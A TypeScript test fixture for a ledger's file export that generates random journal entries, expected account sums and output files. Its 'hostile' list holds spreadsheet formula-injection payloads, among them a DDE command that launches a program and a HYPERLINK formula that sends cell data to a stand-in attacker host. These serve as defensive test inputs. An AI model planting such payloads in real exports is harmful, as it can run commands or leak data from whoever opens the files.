/**
 * Journals for the tests of files: random entries with hostile texts, in the order of posting date and number, and what the
 * accounts add up to.
 */
import { type Chart, plain } from "../../../config/Chart.ts"
import { minorDigits } from "../../../config/Currency.ts"
import type { Format } from "../../../src/Ledger/Files/Format.ts"
import type { JournalEntry } from "../../../src/Ledger/Files/JournalEntry.ts"
import { laidOut } from "../../../src/Ledger/Files/PostingDays.ts"
import type { Random } from "../../Seeded.ts"

export const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"see")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  'a "quoted", reference',
  "two\r\nlines",
  "two\n=lines",
  "a; comment:yes, date:1/99",
  ";=1+1",
  "＝1+1",
  "007",
  "00000000000000000123456789",
  "2026-01-01",
  "1e5",
  "<&>_x0041_\u0001]]>",
  "Ñandú 5 €, 日本 𝄞",
  "half a character \uD834",
  "  spaces  ",
  "long ".repeat(8000),
  ""
]

export const accounts = [
  "bank",
  "receivable",
  "0012",
  "Assets:Bank:Main",
  "(virtual)",
  "[balanced]",
  "* cleared",
  "! pending",
  "a;b",
  "a,b",
  "two  spaces",
  "two spaces",
  "=cmd",
  "~periodic",
  "Forderungen ÄÖ",
  ":",
  "a::b",
  "; comment",
  // Objects keep these otherwise than other names.
  "1400",
  "__proto__",
  "constructor",
  'a "quoted" \\ one',
  "ü, 'b'"
]

const currencies = [null, "EUR", "USD", "JPY", "KWD", "CLF"]

export type Row = Parameters<typeof laidOut>[0]

/** From the smallest amount of the currency to 10^15, and back below zero. */
const amountOf = (random: Random, currency: string | null): bigint => {
  const decimals = currency === null ? 4 : (minorDigits[currency] ?? 2)
  const size = BigInt(random.digits(1 + random.below(15 + decimals)))
  return (random.chance(0.3) ? -size : size) * 10n ** BigInt(4 - decimals)
}

export const decimal = (units: bigint): string => {
  const digits = String(units < 0n ? -units : units).padStart(5, "0")
  return `${units < 0n ? "-" : ""}${digits.slice(0, -4)}.${digits.slice(-4)}`
}

/** Into amounts above zero. */
const split = (random: Random, total: bigint, smallest: bigint, parts: number): ReadonlyArray<bigint> => {
  let rest = total / smallest
  const all: Array<bigint> = []
  for (let left = parts; left > 1; left--) {
    const part = 1n + ((rest - BigInt(left)) * BigInt(random.below(1000))) / 1000n
    all.push(part)
    rest -= part
  }
  return [...all, rest].map((part) => part * smallest)
}

/** As the books keep more than two lines; null if the amount or the accounts don't allow so many. */
const linesFor = (
  random: Random,
  units: bigint,
  currency: string | null,
  accounts: ReadonlyArray<string>
): string | null => {
  const smallest = 10n ** BigInt(4 - (currency === null ? 4 : (minorDigits[currency] ?? 2)))
  const [debits, credits] = [1 + random.below(3), 1 + random.below(3)]
  const size = units < 0n ? -units : units
  if (debits + credits < 3 || accounts.length < debits + credits || size / smallest < 3n) return null
  const parts = [
    ...split(random, size, smallest, debits),
    ...split(random, size, smallest, credits).map((part) => -part)
  ]
  const names = random.shuffle(accounts)
  return JSON.stringify(
    Object.fromEntries(parts.map((part, index) => [names[index] ?? "", decimal(units < 0n ? -part : part)]))
  )
}

interface Made {
  readonly count: number
  /** By default all. */
  readonly currencies?: ReadonlyArray<string | null>
  readonly accounts?: ReadonlyArray<string>
  readonly mostUnits?: bigint
}

export const rows = (random: Random, made: Made): ReadonlyArray<Row> =>
  Array.from({ length: made.count }, (_, index): Row => {
    const currency = random.pick(made.currencies ?? currencies)
    const any = amountOf(random, currency)
    const units = made.mostUnits === undefined ? any : any % made.mostUnits || 100n
    const day = `2026-0${1 + random.below(3)}-${10 + random.below(9)}`
    const isOfFirstVersion = random.chance(0.2)
    return {
      entry_id: `${random.digits(30)}ab`,
      epoch: isOfFirstVersion ? null : 2,
      sequence: index + 1,
      ipc_id: `IPC ${random.pick(hostile).slice(0, 100)}`,
      project_id: random.chance(0.2) ? null : random.digits(3),
      kind: random.pick(units < 0n ? (["reversal", "accrual"] as const) : (["payment", "accrual"] as const)),
      amount: decimal(units),
      currency,
      payment_reference: random.pick(hostile),
      certificate_url: random.chance(0.5) ? null : `https://c/${random.pick(hostile)}`,
      debit_account: random.pick(made.accounts ?? accounts),
      credit_account: random.pick(made.accounts ?? accounts),
      lines: random.chance(0.4) ? linesFor(random, units, currency, made.accounts ?? accounts) : null,
      effective_at: `${day}T12:00:00.000000Z`,
      posting_date: isOfFirstVersion ? null : day,
      known_at: `${day}T12:00:01.000000Z`
    }
  })

const dayOf = ({ effective_at }: Row): string => effective_at.slice(0, 10)

export const inOrder = (all: ReadonlyArray<Row>): ReadonlyArray<Row> =>
  all.toSorted((a, b) => dayOf(a).localeCompare(dayOf(b)) || a.sequence - b.sequence)

export const chart = (accounts: Readonly<Record<string, string>> = {}): Chart => ({
  ...plain,
  accounts,
  company: "1000",
  lines: [
    {
      account: "receivable",
      projects: [],
      taxCode: null,
      costCode: "110",
      counterparty: { kind: "customer", name: "=Springfield & Sons" },
      tracking: { Project: "{project}" }
    }
  ]
})

/** What it moves on each account, what is debited first: said again without the product's own code. */
export const linesOf = ({ amount, credit_account, debit_account, lines }: Row) => {
  const pairs: ReadonlyArray<readonly [account: string, amount: string]> =
    lines === null
      ? [
          [debit_account, amount],
          [credit_account, amount.startsWith("-") ? amount.slice(1) : `-${amount}`]
        ]
      : Object.entries(JSON.parse(lines) as Readonly<Record<string, string>>)
  const all = pairs.map(([account, moved]) => ({ account, units: unitsOf(moved) }))
  return [...all.filter(({ units }) => units > 0n), ...all.filter(({ units }) => units < 0n)]
}

/** Each line with its entry and its place there. */
export const eachLine = (all: ReadonlyArray<Row>) =>
  all.flatMap((row) => linesOf(row).map((line, index) => ({ row, index, ...line })))

/** What the chart calls an account. */
export const codeIn =
  ({ accounts: codes }: Chart) =>
  (account: string): string =>
    new Map(Object.entries(codes)).get(account) ?? account

/** Per account and currency, as in `key`. */
export const sumsOf = (all: ReadonlyArray<Row>, nameOf = (account: string) => account): ReadonlyMap<string, bigint> => {
  const sums = new Map<string, bigint>()
  for (const { account, row, units } of eachLine(all)) {
    const name = key(nameOf(account), row.currency)
    sums.set(name, (sums.get(name) ?? 0n) + units)
  }
  return sums
}

export const key = (account: string, currency: string | null): string => JSON.stringify([account, currency])

/** Given a few entries at a time; throws the refusal. */
export const fileOf = (format: Format, entries: ReadonlyArray<JournalEntry>) => {
  const writer = format()
  const pieces = [writer.begin()]
  for (let from = 0; from < entries.length; from += 7) {
    const added = writer.add(entries.slice(from, from + 7))
    if (added._tag === "Failure") throw new Error(added.failure)
    pieces.push(added.success)
  }
  pieces.push(writer.end())
  return { bytes: Buffer.concat(pieces), notes: writer.notes() }
}

/** Ten-thousandths of a decimal with any number of decimals up to four. */
export const unitsOf = (text: string): bigint => {
  const [, sign = "", whole = "", decimals = ""] = /^(-?)(\d+)(?:\.(\d{1,4}))?$/.exec(text) ?? []
  if (whole === "") throw new Error(`no amount: ${text}`)
  return BigInt(`${sign}${whole}${decimals.padEnd(4, "0")}`)
}
